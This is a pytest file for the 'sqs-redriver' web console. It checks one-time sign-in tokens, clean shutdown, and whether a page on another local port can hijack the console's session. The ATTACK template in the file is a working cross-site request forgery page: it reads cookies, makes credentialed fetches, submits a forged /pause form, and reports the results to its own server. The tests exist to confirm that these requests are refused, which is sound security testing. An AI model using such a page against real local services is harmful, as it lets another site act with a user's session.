"""The web console against another user of the machine, in a real browser (Debian's Chromium,
driven by Playwright): the browser signs in from a private file, so no process's command line
holds a token, and a token works once; a page served by another local server, on another port of
127.0.0.1, can neither read the console's session nor pause the re-driver with it, by script or by
form, even knowing the console's pages' address; and browsers holding connections open do not
keep Ctrl-C from ending ``sqs-redriver ui`` at once and cleanly."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urlparse

import pytest
from playwright.sync_api import Browser, Page, expect

from sqs_redriver.console.web.server import ConsoleServer
from sqs_redriver.core.table import StateTable
from sqs_redriver.protocol.keys import RecordKind
from tests.support.aws import Aws
from tests.support.browser import chromium, fresh_page
from tests.support.console import console_tool, ui_command

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIApplication, WSGIEnvironment

pytestmark = pytest.mark.browser

# The other server's page: it reads its cookies, fetches a page of the console and POSTs /pause
# with the browser's credentials, reports what it saw to its own server, then submits a form to
# /pause (the top-level navigation a script-less attack would use).
ATTACK = """<!doctype html>
<title>an innocent page</title>
<form id="pause" method="post" action="{pages}/pause">
  <input name="reason" value="attacker"><input name="csrf" value="guessed">
</form>
<script>
(async () => {{
  const report = {{cookie: document.cookie}};
  for (const [name, request] of [
    ["read", fetch("{pages}/groups", {{credentials: "include", mode: "no-cors"}})],
    ["pause", fetch("{pages}/pause", {{
      method: "POST", credentials: "include", mode: "no-cors",
      body: new URLSearchParams({{reason: "attacker", csrf: "guessed"}}),
    }})],
  ]) {{
    try {{ await request; report[name] = "sent"; }} catch (error) {{ report[name] = String(error); }}
  }}
  await fetch("/report", {{method: "POST", body: JSON.stringify(report)}});
  document.getElementById("pause").submit();
}})();
</script>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def console(aws: Aws) -> Iterator[ConsoleServer]:
    server = ConsoleServer.bind(console_tool(aws))
    server.serve_in_thread()
    yield server
    server.stop()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with fresh_page(browser) as fresh:
        yield fresh


@dataclass(frozen=True)
class Seen:
    """A request the console answered: what, to where, whether it carried a cookie, the status."""

    method: str
    path: str
    with_cookie: bool
    status: int


def recorded(app: WSGIApplication, seen: list[Seen]) -> WSGIApplication:
    """``app``, noting in ``seen`` each request it answers."""

    def serve(environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        def noted(status: str, headers: Any, exc_info: Any = None) -> Callable[[bytes], object]:
            path = environ.get("SCRIPT_NAME", "") + environ.get("PATH_INFO", "")
            seen.append(Seen(environ["REQUEST_METHOD"], path, "HTTP_COOKIE" in environ, int(status[:3])))
            return start_response(status, headers, exc_info)

        return app(environ, noted)

    return serve


@dataclass
class OtherServer:
    """Another user's server on 127.0.0.1: the attack page at ``/``, what it reports at
    ``/report``, and the cookies each request to it carried."""

    pages: str
    cookies: list[str] = field(default_factory=list)
    reports: list[dict[str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        other = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._note()
                body = ATTACK.format(pages=other.pages).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                self._note()
                length = int(self.headers.get("Content-Length", "0"))
                other.reports.append(json.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

            def _note(self) -> None:
                other.cookies.extend(self.headers.get_all("Cookie") or [])

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/"

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def command_lines() -> list[str]:
    """Every process's command line, as ``ps`` shows them to any user."""
    lines = []
    for process in Path("/proc").iterdir():
        try:
            lines.append((process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:  # not a process, or one that ended meanwhile
            continue
    return lines


def test_the_browser_signs_in_from_a_private_file_and_no_command_line_holds_the_token(
    console: ConsoleServer, page: Page, browser: Browser
) -> None:
    sign_in_urls: list[str] = []

    def open_in_the_browser(file_url: str) -> bool:
        text = Path(unquote(urlparse(file_url).path)).read_text()
        sign_in_urls.append(text.split('content="0;url=')[1].split('"')[0])
        page.goto(file_url)
        return True

    assert console.open_browser(opener=open_in_the_browser)

    expect(page.get_by_role("heading", name="Circuit breakers")).to_be_visible()
    [sign_in_url] = sign_in_urls
    token = sign_in_url.split("token=")[1]
    lines = command_lines()
    assert any("chromium" in line for line in lines)  # the browser is running, it was looked at
    assert not [line for line in lines if token in line]
    with fresh_page(browser) as someone_else:
        someone_else.goto(sign_in_url)
        expect(someone_else.get_by_text("was used already")).to_be_visible()


def test_a_page_of_another_local_server_can_neither_read_the_session_nor_pause_the_redriver(
    aws: Aws, console: ConsoleServer, page: Page
) -> None:
    seen: list[Seen] = []
    console.server.app = recorded(console.server.app, seen)
    page.goto(console.url)
    expect(page.get_by_role("heading", name="Circuit breakers")).to_be_visible()
    pages = page.url.rstrip("/")  # the worst case: the other server knows the pages' secret path
    other = OtherServer(pages)
    try:
        page.goto(other.url)

        expect(page).to_have_url(f"{pages}/pause")  # the form was submitted: the attack is over
        expect(page.get_by_text("another port of this machine")).to_be_visible()
    finally:
        other.stop()

    [report] = other.reports
    assert report == {"cookie": "", "read": "sent", "pause": "sent"}
    assert other.cookies == []
    attacks = [
        request
        for request in seen
        if request.path in (f"{urlparse(pages).path}/groups", f"{urlparse(pages).path}/pause")
    ]
    assert sorted((request.method, request.with_cookie, request.status) for request in attacks) == [
        ("GET", True, 403),
        ("POST", True, 403),
        ("POST", True, 403),
    ]  # the script's two fetches run at once: in either order
    assert (
        StateTable(aws.table_name, aws.dynamodb, ttl_seconds=60).load_pause(RecordKind.PAUSE.key(aws.dlq_url))
        is None
    )


def test_ctrl_c_ends_the_console_cleanly_with_two_browsers_signed_in_and_their_connections_open(
    browser: Browser,
) -> None:
    with ui_command() as ui, fresh_page(browser) as first, fresh_page(browser) as second:
        first.goto(ui.printed_url())
        ui.press_enter()
        second.goto(ui.printed_url())
        for page in (first, second):
            page.get_by_role("link", name="Audit").click()
            expect(page.get_by_role("heading", name="Operator actions, last 7 days")).to_be_visible()

        errors = ui.interrupt()

    assert ui.process.returncode == 0 and "Traceback" not in errors, errors
    assert errors.rstrip().endswith("stopped"), errors
